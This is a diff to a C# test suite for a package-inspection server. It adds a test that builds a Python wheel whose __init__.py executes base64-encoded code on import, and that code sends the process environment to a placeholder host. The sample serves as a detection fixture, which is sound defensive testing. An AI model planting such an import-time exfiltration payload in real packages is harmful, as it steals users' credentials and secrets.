@@ -3,6 +3,7 @@ using Bonded.Data;
 using Bonded.Gate.Inspections;
 using Bonded.Inspection;
 using Bonded.Testing;
+using Bonded.Testing.Packages;
 using Bonded.Testing.Upstream;
 
 namespace Bonded.Server.Tests;
@@ -24,6 +25,24 @@ public sealed class FaultTests
         Assert.Equal(good, await server.Download(page[Goods.WheelName("quillwharf", "1.0")].Path));
         Assert.Contains("archive-ambiguous", (await server.Refused(TestServer.PathOf(two.FileName, two.Build()))).Rules);
         Assert.Equal(Goods.Wheel("quillwharf", "1.0").MetadataBytes(), await server.Download(page[Goods.WheelName("quillwharf", "1.0")].Path + ".metadata"));
+    }
+
+    [Fact]
+    public async Task What_the_workers_say_of_code_arrives_whole()
+    {
+        await using var server = await TestServer.Start(new ServerSetup { Worker = [Bonded, "inspect-worker"], Adjust = options => options with { FileWait = TimeSpan.FromSeconds(60) } });
+        var inner = Convert.ToBase64String("import os, urllib.request\nurllib.request.urlopen('https://x.example.invalid', data=str(os.environ).encode())\n"u8);
+        var wheel = new WheelBuilder("quillwharf", "1.0").With("quillwharf/__init__.py", $"import base64\nexec(base64.b64decode('{inner}'))\n");
+        var bytes = server.Upstream.Put(wheel, "quillwharf");
+        await server.Page("quillwharf");
+        await server.Refused(TestServer.PathOf(wheel.FileName, bytes));
+        var digest = Packaging.Sha256Digest.Of(bytes);
+        var stored = (await server.Database.Read(tx => Inspections.Newest(tx, digest, wheel.FileName)))!.FactsJson;
+        Assert.True(Packaging.DistributionFilename.TryParse(wheel.FileName, out var filename, out _));
+        var here = Inspector.Inspect(new MemoryStream(bytes), digest, filename, global::Bonded.Archives.ArchiveLimits.Default, CancellationToken.None);
+        Assert.Equal(here.ToJson(), stored);
+        Assert.Contains(here.Findings, finding => finding is { Strength: Strength.High, Trigger: Trigger.Import, Layers: ["base64"] });
+        Assert.NotEmpty(here.Capabilities);
     }
 
     [Theory]
